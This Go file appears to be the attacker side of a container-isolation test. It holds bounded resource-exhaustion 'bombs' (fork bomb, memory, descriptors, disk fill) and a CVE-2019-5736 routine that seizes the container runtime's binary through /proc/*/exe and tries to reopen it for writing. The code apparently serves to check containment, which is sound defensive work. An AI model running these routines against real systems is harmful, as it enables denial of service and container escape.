package main

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// bomb uses something up. Each has a bound of its own, so that it ends where
// nothing else holds it.
type bomb struct {
	name string
	drop func(args []string) error
}

const (
	maxForks  = 4096
	maxMemory = 1 << 30 // bytes
	maxFiles  = 1 << 17
	maxFill   = 1 << 30 // bytes
	step      = 1 << 20 // bytes
)

func bombs() []bomb {
	return []bomb{
		{"forks", func([]string) error { return forks() }},
		{"memory", func([]string) error { return memory() }},
		{"descriptors", func([]string) error { return descriptors() }},
		{"fill", func(args []string) error { return fill(args[0]) }},
		{"echo", func([]string) error { return echo() }},
		{"watch", func(args []string) error { return watch(args[0]) }},
		{"cwd", func([]string) error { fmt.Println("cwd:", attempt{try: leaveByCwd}.outcome()); return nil }},
	}
}

// tell ends a bomb: by how the kernel stopped it.
func tell(name string, err error) error {
	fmt.Printf("%s: %s\n", name, attempt{try: func() error { return err }}.outcome())
	return nil
}

// forks makes children that sleep, until there can be no more. They go with
// PID 1, which this is.
func forks() error {
	for range maxForks {
		pid, _, errno := unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
		switch {
		case errno != 0:
			return tell("forks", errno)
		case pid == 0:
			for {
				_, _, _ = unix.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
			}
		}
	}
	return tell("forks", nil)
}

// memory is what the kernel ends, without a word from here.
func memory() error {
	for range maxMemory / step {
		b, err := unix.Mmap(-1, 0, step, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_POPULATE)
		if err != nil {
			return tell("memory", err)
		}
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
	}
	return tell("memory", nil)
}

func descriptors() error {
	for range maxFiles {
		if _, err := unix.FcntlInt(0, unix.F_DUPFD_CLOEXEC, 3); err != nil {
			return tell("descriptors", err)
		}
	}
	return tell("descriptors", nil)
}

// fill writes a file in dir until there is no more room.
func fill(dir string) error {
	fd, err := unix.Open(filepath.Join(dir, "fill"), unix.O_WRONLY|unix.O_CREAT|unix.O_CLOEXEC, 0o600)
	if err != nil {
		return tell("fill "+dir, err)
	}
	block := make([]byte, step)
	for range maxFill / step {
		if _, err := unix.Write(fd, block); err != nil {
			return tell("fill "+dir, err)
		}
	}
	return tell("fill "+dir, nil)
}

// echo is the neighbour: it answers what it is asked.
func echo() error {
	in := bufio.NewScanner(os.Stdin)
	for in.Scan() {
		fmt.Println("echo", in.Text())
	}
	return in.Err()
}

// watch is CVE-2019-5736: it waits for processes to come into its container,
// and takes hold of the program that they still are before they become the
// container's. Then it would write to it.
func watch(forHowLong string) error {
	d, err := time.ParseDuration(forHowLong)
	if err != nil {
		return err
	}
	fmt.Println("watching")
	fd := none
	for until := time.Now().Add(d); fd == none && time.Now().Before(until); {
		fd = catch()
	}
	if fd == none {
		return tell("overwrite the runtime", contained("none was caught"))
	}
	return tell("overwrite the runtime", overwrite(int(fd)))
}

// catch looks once at all processes, and takes hold of a program that is not
// its own.
func catch() (fd uintptr) {
	list, _ := filepath.Glob("/proc/[0-9]*/exe") // the pattern is well-formed
	var own unix.Stat_t
	if unix.Stat("/proc/self/exe", &own) != nil {
		return none
	}
	for _, exe := range list {
		fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil && (st.Dev != own.Dev || st.Ino != own.Ino) {
			return uintptr(fd)
		}
		unix.Close(fd)
	}
	return none
}

// overwrite opens for writing what is open for reading, once no process runs
// it any more.
func overwrite(fd int) error {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	for range 3000 {
		if err := open(path, unix.O_WRONLY); !errors.Is(err, unix.ETXTBSY) {
			return err
		}
		time.Sleep(time.Millisecond)
	}
	return unix.ETXTBSY
}
